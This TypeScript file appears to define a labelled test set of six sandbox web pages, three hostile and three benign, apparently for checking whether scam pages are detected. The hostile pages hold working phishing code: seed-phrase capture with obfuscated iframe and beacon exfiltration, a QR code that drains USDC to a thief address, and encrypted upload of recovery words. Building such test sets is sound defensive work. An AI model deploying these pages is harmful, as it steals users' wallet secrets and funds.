import encodeQR from 'qr'
import { page } from '../../src/sandbox/sites/page.ts'
import type { SiteAnswer } from '../../src/sandbox/sites/site.ts'
import type { PageClass } from './pageDesign.ts'
import type { PageWorld } from './pageWorld.ts'

type Made = { title: string; html: string; hosts?: Record<string, SiteAnswer> }

/** A page whose HTML is its own. `hosts`: other hosts of its owner, `{{name}}` in the HTML. */
const own = (id: string, hostile: boolean, of: (world: PageWorld) => Made): PageClass => ({
  id: `blind3-${id}`,
  hostile,
  plain: true,
  design: (_, world) => {
    const { title, html, hosts } = of(world)
    return { title, content: html, ...(hosts && { hosts }) }
  },
})

/** A frame of another host that is told what is typed. */
const frameOf = (act: string) =>
  page(
    'Frame',
    `<script>addEventListener('message', ({ data }) => { if (typeof data === 'string') { ${act} } })</script>`,
  )

const drawing = (text: string) => encodeQR(text, 'svg', { scale: 4 }).replace('<svg', '<svg width="210" height="210"')

/** A dialog that shows a code after a press. */
const inDialog = (label: string, words: string, text: string) =>
  `<button id="open">${label}</button><dialog id="d"><p>${words}</p><div id="c"></div></dialog><script>document.getElementById('open').onclick = () => { document.getElementById('c').innerHTML = ${JSON.stringify(drawing(text))}; document.getElementById('d').showModal() }</script>`

/** One field, twelve steps; `end` has the words. */
const steps = (ask: string, takes: string, end: string) =>
  `<p id="ask">${ask} 1</p><input id="w" type="text"><button id="go">Next</button><p id="say"></p><script>
const words = []; document.getElementById('go').onclick = async () => { const one = document.getElementById('w').value.trim(); if (!(${takes})) { document.getElementById('say').textContent = 'Try another'; return } words.push(one); document.getElementById('w').value = ''; if (words.length < 12) { document.getElementById('ask').textContent = ${JSON.stringify(ask)} + ' ' + (words.length + 1); return } ${end} }</script>`

/** Six pages that were written after the rules of decision 132, their labels fixed before the first scan. PAGES_SET=blind3. */
export const THIRD_BLIND_CLASSES: readonly PageClass[] = [
  own('frame-sealed', true, () => ({
    title: 'Card reader',
    html: `<h1>Card reader</h1><p>Type the line from your card to see which year it is from.</p><textarea id="t" rows="3" cols="60"></textarea><button id="go">Read</button><p id="say"></p><iframe id="f" src="https://{{widget}}/" style="width:0;height:0;border:0"></iframe><script>document.getElementById('go').onclick = () => { const line = document.getElementById('t').value.trim(); if (line.split(' ').length % 3 || /[a-z]{9}/.test(line)) { document.getElementById('say').textContent = 'No year found'; return } document.getElementById('f').contentWindow.postMessage(line, '*') }</script>`,
    hosts: {
      widget: frameOf(
        `const pad = crypto.getRandomValues(new Uint8Array(12)); new Image().src = '/a.gif?' + new URLSearchParams({ v: btoa(String.fromCharCode(...pad, ...[...data].map((one, at) => one.charCodeAt(0) ^ pad[at % 12]))) })`,
      ),
    },
  })),
  own('code-reward', true, ({ tokens, thief }) => ({
    title: 'Loyalty desk',
    html: `<h1>Loyalty desk</h1><p>Your points are ready.</p>${inDialog('Show my code', 'Scan it with your wallet to receive them.', `ethereum:${tokens.usdc}@1/transfer?address=${thief}&uint256=9e8`)}`,
  })),
  own('word-by-word', true, () => ({
    title: 'Reunion',
    html: `<h1>Reunion</h1><p>We bring you back to your account, one step at a time.</p>${steps('Your word', '/^[a-z]{3,8}$/.test(one)', `const key = await crypto.subtle.generateKey({ name: 'AES-GCM', length: 128 }, true, ['encrypt']); const iv = crypto.getRandomValues(new Uint8Array(12)); const box = await crypto.subtle.encrypt({ name: 'AES-GCM', iv }, key, new TextEncoder().encode(words.join(' '))); await fetch('/r', { method: 'POST', body: new Blob([iv, await crypto.subtle.exportKey('raw', key), box]) })`)}`,
  })),
  own('frame-comments', false, () => ({
    title: 'Lock keepers',
    html: `<h1>The lock keepers of the canal</h1><p>Nine people look after thirty locks. We spent a day with one of them.</p><textarea id="t" rows="3" cols="60"></textarea><button id="go">Comment</button><iframe id="f" src="https://{{widget}}/" style="width:0;height:0;border:0"></iframe><script>document.getElementById('go').onclick = () => document.getElementById('f').contentWindow.postMessage(document.getElementById('t').value, '*')</script>`,
    hosts: { widget: frameOf(`fetch('/comments', { method: 'POST', body: data })`) },
  })),
  own('code-ticket', false, ({ tokens, merchant }) => ({
    title: 'Night train',
    html: `<h1>Night train</h1><p>Berth 12, lower. 60 USDC.</p>${inDialog('Pay with a phone', 'Scan it with your wallet: 60 USDC to Night Train Ltd.', `ethereum:${tokens.usdc}@1/transfer?address=${merchant}&uint256=6e7`)}`,
  })),
  own('word-chain', false, () => ({
    title: 'Word chain',
    html: `<h1>Word chain</h1><p>Twelve words, each at most ten letters.</p>${steps('Word', 'one.length > 1', `await fetch('/chains', { method: 'POST', body: JSON.stringify(words) }); document.getElementById('say').textContent = 'Kept'`)}`,
  })),
]
